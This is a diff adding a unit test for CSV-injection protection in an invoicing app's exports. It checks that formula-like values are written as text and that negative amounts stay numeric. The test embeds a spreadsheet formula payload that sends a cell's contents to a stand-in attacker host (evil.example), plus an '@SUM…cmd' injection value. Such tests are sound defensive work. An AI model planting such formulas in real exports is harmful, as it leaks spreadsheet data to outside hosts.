@@ -75,4 +75,33 @@ describe('CSV exports', () => {
     expect(statuses.get(avoir.id)).toMatchObject({ etat: 'avoir', remaining: 0 });
     expect(statuses.has(factures[4]?.id ?? '')).toBe(false);
   });
+
+  it('writes formula-like names and references as text, negative amounts as numbers, in both separators', () => {
+    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    const avoir = facture('00000000-0000-4000-8000-0000000000a2', '2026-11-03', 0, {
+      numero: 'AV-2026-00001',
+      type_facture: 'avoir',
+      facture_origine_id: factures[1]?.id,
+      lignes: [{ id: '00000000-0000-4000-9000-000000000002', designation: 'Remise', quantite: -1, prix_unitaire_ht: 1250, taux_tva_bp: 0 }],
+    });
+    const payment = { ...reglement('00000000-0000-4000-8000-0000000000b9', factures[2]?.id ?? '', '2026-11-30', 5000), reference: '@SUM(1+1)*cmd' };
+    const hostileInput = { ...input, factures: [...factures, avoir], contacts: [{ id: client, nom: hostile }], reglements: [...reglements, payment] };
+    for (const separator of [';', ','] as const) {
+      const amount = (cents: number) => csvAmount(cents, separator);
+      const invoices = parse(facturesCsv({ ...hostileInput, separator }), { delimiter: separator, bom: true });
+      expect(invoices.slice(1).map((row) => row[4])).toEqual([`'${hostile}`, `'${hostile}`, `'${hostile}`]);
+      const credit = invoices.find((row) => row[0] === 'AV-2026-00001')!;
+      expect(credit.slice(6, 9)).toEqual([amount(-1250), amount(0), amount(-1250)]);
+      expect(credit[6]).toBe(separator === ';' ? '-12,50' : '-12.50');
+      // Overpaid: what is still owed is negative, written as a number.
+      const overpaid = invoices.find((row) => row[0] === 'FA-2026-11-30')!;
+      expect(overpaid[10]).toBe(amount(1200 - 5000));
+      const payments = parse(reglementsCsv({ ...hostileInput, separator }), { delimiter: separator, bom: true });
+      expect(payments.at(-1)).toEqual([csvDate('2026-11-30', separator), 'FA-2026-11-30', `'${hostile}`, 'Chèque', "'@SUM(1+1)*cmd", amount(5000)]);
+      // No cell of either file starts like a formula, but the negative amounts.
+      for (const row of [...invoices, ...payments]) {
+        expect(row.filter((cell) => /^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-\d+[.,]\d{2}$/.test(cell)))).toEqual([]);
+      }
+    }
+  });
 });
